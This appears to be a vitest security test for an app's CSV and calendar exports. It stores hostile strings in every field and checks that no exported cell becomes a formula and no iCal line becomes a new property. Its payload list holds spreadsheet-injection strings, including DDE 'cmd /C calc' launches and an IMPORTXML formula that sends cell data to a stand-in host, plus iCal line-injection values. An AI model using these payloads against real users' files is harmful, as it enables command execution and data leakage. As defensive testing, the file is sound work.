// Hostile texts in every field that a person fills, through every file that is written: no cell of a CSV is a formula, no line of a
// calendar is a property of its own, and each text is read back as it was kept.

import { readFileSync } from 'node:fs'
import path from 'node:path'
import { expect, it } from 'vitest'
import { PAYLOADS } from '../../e2e/hostile/xss-payloads.ts'
import { makeProfile } from '../../support/profile/temp-folder.ts'
import { type Desk, startDesk } from '../../support/start-backend.ts'
import { readIcal } from '../services/airdrops/ical-reader.ts'

/** What spreadsheets take for a formula, a link to another program, or a macro; and what confuses who reads lines. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://x.example","y")',
  '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '＝1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000＋1',
  '\ufeff=1+1',
  ' \n@SUM(A1)',
  "' =1+1",
  '＋1',
  '－1',
  '＠A1',
  "'=1+1",
  "''=1+1",
  '"=1+1"',
  ';=1+1',
  ',=1+1',
  '1,=1+1',
  '1"\r\n=1+1',
  '%0A=1+1',
  'a\t=1+1',
  'a\nBEGIN:VEVENT\nSUMMARY:x',
  'END:VEVENT',
  'x;y,z\\n\\N:"q"',
  'ATTACH;FMTTYPE=text/html:http://x.example',
  'x\u0085DTSTART:20300101T000000Z',
  '“=1+1”',
]
const TEXTS = [...new Set([...FORMULAS, ...PAYLOADS])]

/** Cells of RFC 4180, by nothing of the app. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]]
  const cells = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy
  for (let found = cells.exec(text); found !== null; found = cells.exec(text)) {
    rows.at(-1)?.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '')
    if (found[3] === '\r\n') rows.push([])
    if (found[3] === '' || cells.lastIndex >= text.length) break
  }
  return rows.filter((row) => row.length > 0)
}

/** A spreadsheet trims, and reads on behind a mark of byte order. */
const isFormula = (cell: string) =>
  /^[=+\-@＝＋－＠]/.test(cell.replace(/^[\s\uFEFF]+/, '')) && !/^-?\d+(\.\d+)?$/.test(cell)

const exported = async (
  desk: Desk,
  operation: 'listFile.export' | 'ledger.export' | 'calendar.export',
  name: string,
) => {
  const file = path.join(path.dirname(makeProfile()), name)
  await desk.ok(operation, operation === 'ledger.export' ? { path: file, environment: 'practice' } : { path: file })
  return readFileSync(file)
}

const DEADLINE = { day: '2027-01-01', time: '12:00', timeZone: 'UTC' }

it('no text of a file is a formula or a property, and each is read back as it is', { timeout: 120_000 }, async () => {
  const desk = await startDesk()
  const kept = { names: [] as string[], titles: [] as string[], notes: [] as string[] }
  const take = async (operation: Parameters<Desk['backend']['call']>[0], input: unknown) => {
    desk.clock.advance(1_000)
    const answer = await desk.backend.call(operation, input)
    return answer.ok ? (answer.value as Record<string, string>) : null
  }
  for (const text of TEXTS) {
    const coin = await take('coins.save', { name: text, what: text, narratives: [text] })
    const plain = await take('coins.save', { name: `Plain ${TEXTS.indexOf(text)}` })
    const coinId = coin?.['id'] ?? plain?.['id'] ?? ''
    if (coin !== null) kept.names.push(coin['name'] ?? '')
    await take('notes.save', { coinId, text })
    await take('tags.set', { coinId, tags: [text] })
    await take('airdrops.save', { coinId, note: text })
    const task = await take('airdropTasks.save', { coinId: 'peaq', title: text, wallet: text, deadline: DEADLINE })
    if (task !== null) kept.titles.push(`peaq: ${task['title']}`)
    const row = { at: '2026-01-01', environment: 'practice', accountId: 'manual', kind: 'deposit', coinId }
    const movement = await take('ledger.save', { ...row, amount: '1', note: text })
    if (movement !== null) kept.notes.push(movement['note'] ?? '')
    await take('ledger.save', { ...row, coinId: null, asset: text, amount: '1', currency: text })
  }
  expect(kept.names.length).toBeGreaterThan(TEXTS.length / 2)
  expect(kept.titles.length).toBeGreaterThan(TEXTS.length / 2)

  const list = cellsOf((await exported(desk, 'listFile.export', 'list.csv')).toString('utf8'))
  expect(list.flat().filter(isFormula)).toEqual([])
  expect(new Set(list.map((row) => row.length)).size).toBe(1)
  const file = path.join(path.dirname(makeProfile()), 'list.csv')
  await desk.ok('listFile.export', { path: file })
  expect(await desk.ok('listFile.preview', { path: file })).toMatchObject({ adds: 0, changes: 0, badCount: 0 })

  const ledger = cellsOf((await exported(desk, 'ledger.export', 'ledger.csv')).toString('utf8'))
  expect(ledger.flat().filter(isFormula)).toEqual([])
  expect(new Set(ledger.map((row) => row.length)).size).toBe(1)
  const cells = new Set(ledger.flat())
  expect(kept.notes.filter((note) => !cells.has(note) && !cells.has(`'${note}`))).toEqual([])

  const events = readIcal(await exported(desk, 'calendar.export', 'deadlines.ics'))
  const summaries = events.map(({ summary }) => summary)
  expect(summaries.toSorted()).toEqual(kept.titles.toSorted())
})
